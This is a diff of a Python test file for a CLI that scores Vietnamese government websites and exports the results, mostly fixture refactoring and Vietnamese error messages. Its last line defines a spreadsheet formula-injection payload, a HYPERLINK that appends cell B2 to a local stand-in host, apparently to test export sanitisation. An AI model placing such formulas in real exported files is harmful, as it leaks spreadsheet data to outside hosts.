@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 
 from inspector.model.checklist import load_all
 from inspector.records.workspace import Workspace
+from inspector.records.observations import put as put_observation
 from tests.cli import invoke
 
 DATA = Path(__file__).parent / "data"
@@ -29,15 +30,15 @@ def scored(tmp_path: Path) -> Path:
              "published": f"2026-{m:02d}-15"} for m in range(1, 12)]
     news.append({"url": "http://127.0.0.1:8101/tin-tuc/12", "title": "Tin tháng 12",
                  "published": "2025-12-20"})
-    ws.put_observation("so-tttt", "posts/tin-tuc-su-kien", {
+    put_observation(ws, "so-tttt", "posts/tin-tuc-su-kien", {
         "section": {"found": True, "own": True, "how": "register",
                     "urls": ["http://127.0.0.1:8101/tin-tuc"]},
         "posts": news,
         "evidence": [{"kind": "screenshot", "path": "screenshots/ab12.png", "sha256": "ab12"}]})
-    ws.put_observation("so-tttt", "fields/lien-he",
+    put_observation(ws, "so-tttt", "fields/lien-he",
                        {"present": ["dia_chi", "dien_thoai", "email"], "url": "http://x/lien-he"})
-    ws.put_observation("so-tttt", "feature/hotline", {"present": True})
-    ws.put_observation("so-tttt", "posts/van-ban-qppl", status="failed",
+    put_observation(ws, "so-tttt", "feature/hotline", {"present": True})
+    put_observation(ws, "so-tttt", "posts/van-ban-qppl", status="failed",
                        reason="timeout: http://127.0.0.1:8101/van-ban did not answer in 30 s")
     ws.close()
     invoke("score", "-w", str(ws_dir), "--as-of", AS_OF)
@@ -123,7 +124,7 @@ def test_csv_and_xlsx_have_one_row_per_agency_and_criterion(scored: Path, tmp_pa
 def test_export_before_scoring_is_a_clean_error(tmp_path: Path):
     invoke("registry", "import", "-w", str(tmp_path / "new"), str(DATA / "register.yaml"))
     output = invoke("export", "-w", str(tmp_path / "new"), code=1)
-    assert output.strip() == "Lỗi: nothing scored yet: run 'inspector score' first"
+    assert output.strip() == "Lỗi: chưa có kết quả chấm điểm: hãy chạy 'inspector score' trước"
 
 
 def test_export_of_some_agencies(scored: Path):
@@ -133,12 +134,12 @@ def test_export_of_some_agencies(scored: Path):
                   "--agency", "so-tttt").splitlines()[1:]
     assert {row.split(",")[1] for row in rows} == {"so-tttt", "xa-kien-an"}
     output = invoke("export", "-w", str(scored), "--agency", "so-khong-co", code=1)
-    assert "unknown agency 'so-khong-co'" in output
+    assert "không có cơ quan 'so-khong-co'" in output
 
 
 def test_score_unknown_agency_is_a_clean_error(scored: Path):
     output = invoke("score", "-w", str(scored), "--agency", "so-khong-co", code=1)
-    assert "unknown agency 'so-khong-co'" in output
+    assert "không có cơ quan 'so-khong-co'" in output
 
 
 HOSTILE_COMMENT = '=HYPERLINK("http://127.0.0.1:9/x?"&B2,"Xem")'
